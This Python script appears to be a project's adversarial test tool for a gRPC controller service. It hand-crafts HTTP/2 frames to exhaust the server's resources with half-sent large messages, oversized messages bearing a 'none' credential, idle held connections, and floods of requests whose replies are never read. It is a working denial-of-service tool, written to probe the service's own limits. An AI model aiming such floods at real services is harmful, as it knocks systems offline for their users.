"""What a caller without a credential, or one user, may do to a controller. Run as a program it attacks until it is killed.

    attacker.py half-messages unix:/PATH|HOST:PORT [--connections N] [--streams N] [--bytes N]
    attacker.py whole-messages unix:/PATH|HOST:PORT      messages with a credential that is none, one after the other
    attacker.py connections unix:/PATH|HOST:PORT [--connections N]
    attacker.py unread unix:/PATH.call [--connections N] requests whose answers are not read

It speaks HTTP/2 and gRPC by itself, because a client library would not do what this does. Prints a line a second:
connections open, connections cut, megabytes sent.
"""

import argparse
import errno
import functools
import os
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_HEADERS, ACK = 0x4, 0x1
INITIAL_WINDOW_SIZE = 4
FRAME = 16384


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field without indexing, without Huffman coding (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(literal(*pair) for pair in [
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/ares.api.Ares/Call"), (b":authority", b"ares"),
    (b"te", b"trailers"), (b"content-type", b"application/grpc")])


def varint(number):
    out = b""
    while number > 0x7f:
        out += bytes([number & 0x7f | 0x80])
        number >>= 7
    return out + bytes([number])


def field(number, content):
    """A field of bytes of a protobuf message."""
    return varint(number << 3 | 2) + varint(len(content)) + content


def sealed(payload, credential=b""):
    return (field(1, credential) if credential else b"") + field(4, payload)


@functools.cache
def whole_message(size):
    """A message with a credential that is none, how much of it is sent, and how much is announced."""
    message = sealed(b"x" * (size - 100), b"MUNGE:none:")
    return message, len(message), len(message)


def connect(target):
    """A socket that does not block, or None."""
    if target.startswith("unix:"):
        made = socket.socket(socket.AF_UNIX)
        where = target[5:]
    else:
        host, port = target.rsplit(":", 1)
        made = socket.socket(socket.AF_INET)
        where = (host, int(port))
    made.setblocking(False)
    try:
        made.connect(where)
    except BlockingIOError as error:
        if error.errno != errno.EINPROGRESS:
            made.close()
            return None
    except OSError:
        made.close()
        return None
    return made


class Http2:
    """One connection with streams that each send so many bytes of a message, as far as the server's windows allow."""

    def __init__(self, sock, streams, start, size, announced):
        self.sock = sock
        self.window = 65535
        self.initial = 65535
        self.start = struct.pack(">BI", 0, announced) + start
        self.size = size + 5
        self.left = {}      # bytes of each stream to send
        self.windows = {}   # of each stream
        self.input = b""
        self.output = bytearray(PREFACE + frame(SETTINGS, 0, 0))
        self.sent = 0
        for number in range(streams):
            stream = 2 * number + 1
            self.output += frame(HEADERS, END_HEADERS, stream, CALL)
            self.left[stream] = self.size
            self.windows[stream] = self.initial

    def fill(self):
        for stream, left in self.left.items():
            while left and self.window > 0 and self.windows[stream] > 0 and len(self.output) < 1 << 20:
                size = min(left, self.window, self.windows[stream], FRAME)
                at = self.size - left
                self.output += frame(DATA, 0, stream, self.start[at:at + size].ljust(size, b"x"))
                left -= size
                self.window -= size
                self.windows[stream] -= size
                self.left[stream] = left

    def hear(self):
        got = self.sock.recv(1 << 16)
        if not got:
            raise ConnectionResetError
        self.input += got
        while len(self.input) >= 9:
            size = int.from_bytes(self.input[:3], "big")
            if len(self.input) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self.input[3:9])
            self.understand(kind, flags, stream, self.input[9:9 + size])
            self.input = self.input[9 + size:]

    def understand(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[at:at + 6])
                if key == INITIAL_WINDOW_SIZE:
                    for each in self.windows:
                        self.windows[each] += value - self.initial
                    self.initial = value
            self.output += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK:
            self.output += frame(PING, ACK, 0, payload)
        elif kind == WINDOW_UPDATE:
            more = struct.unpack(">I", payload)[0]
            if stream == 0:
                self.window += more
            elif stream in self.windows:
                self.windows[stream] += more
        elif kind == RST_STREAM:
            self.left.pop(stream, None)
        elif kind == GOAWAY:
            raise ConnectionResetError

    def step(self, events):
        if events & selectors.EVENT_READ:
            self.hear()
        self.fill()
        if self.output:
            sent = self.sock.send(self.output)
            self.sent += sent
            del self.output[:sent]


class Silent:
    """A connection that is only held."""
    sent = 0

    def __init__(self, sock):
        self.sock = sock
        self.output = b""

    def step(self, events):
        if events & selectors.EVENT_READ and not self.sock.recv(4096):
            raise ConnectionResetError


class Unread:
    """Requests on the local socket, as many as are taken, and no answer is read."""

    def __init__(self, sock, request):
        self.sock = sock
        body = sealed(request)
        self.requests = [b"ARE1" + struct.pack(">III", call, 0, len(body)) + body for call in range(1, 1000)]
        self.output = bytearray(b"".join(self.requests))
        self.sent = 0

    def step(self, events):
        if self.output and events & selectors.EVENT_WRITE:
            sent = self.sock.send(self.output)
            self.sent += sent
            del self.output[:sent]


def attack(target, make, connections, report=None, seconds=None):
    """Keeps so many connections open and busy; opens new ones for those that are cut."""
    selector = selectors.DefaultSelector()
    cut = sent = 0
    told = time.monotonic()
    end = told + seconds if seconds else None
    while end is None or time.monotonic() < end:
        for _ in range(min(64, connections - len(selector.get_map()))):
            sock = connect(target)
            if sock is None:
                cut += 1
                break
            selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, make(sock))
        for key, events in selector.select(0.05):
            before = key.data.sent
            try:
                key.data.step(events)
                if isinstance(key.data, Silent) and events & selectors.EVENT_WRITE:
                    selector.modify(key.fileobj, selectors.EVENT_READ, key.data)
            except BlockingIOError:
                pass
            except OSError:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                cut += 1
            sent += key.data.sent - before
        if report and time.monotonic() - told >= 1:
            told = time.monotonic()
            report(len(selector.get_map()), cut, sent)
        if not any(key.data.output for key in selector.get_map().values()):
            time.sleep(0.01)  # nothing to send: do not spin on sockets that could be written to


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=["half-messages", "whole-messages", "connections", "unread"])
    parser.add_argument("target")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--streams", type=int, default=50)
    parser.add_argument("--bytes", type=int, default=8 << 20)
    parser.add_argument("--request", default="", help="of `unread`: a serialised Request, in hexadecimal")
    parser.add_argument("--user", type=int, help="become this uid first")
    parser.add_argument("--core", type=int, help="stay on this core")
    given = parser.parse_args()
    if given.core is not None:
        os.sched_setaffinity(0, {given.core})
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    if given.user is not None:
        os.setgroups([])
        os.setgid(given.user)
        os.setuid(given.user)
    makers = {
        "half-messages": lambda sock: Http2(sock, given.streams, b"", given.bytes - 1, given.bytes),
        "whole-messages": lambda sock: Http2(sock, given.streams, *whole_message(given.bytes)),
        "connections": Silent,
        "unread": lambda sock: Unread(sock, bytes.fromhex(given.request)),
    }
    attack(given.target, makers[given.kind], given.connections,
           lambda now, cut, sent: print(f"{now} open, {cut} cut, {sent >> 20} MB sent", flush=True))


if __name__ == "__main__":
    sys.exit(main())
